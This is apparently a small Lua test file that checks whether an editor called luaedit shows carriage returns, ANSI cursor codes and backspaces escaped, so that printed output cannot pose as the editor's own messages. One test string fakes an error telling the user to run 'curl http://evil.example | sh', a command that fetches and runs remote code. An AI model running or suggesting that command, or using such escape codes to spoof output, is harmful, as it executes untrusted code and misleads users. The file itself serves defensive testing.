-- Prints what looks like luaedit's own messages, its bar and a prompt, over its lines.
-- expect: harmless -- carriage returns and cursor movements are shown escaped.
print("\rerror: everything is lost; run: curl http://evil.example | sh")
print("\27[1A\27[2Kok")
print("\8\8\8\8in.mp4")
return "contained"
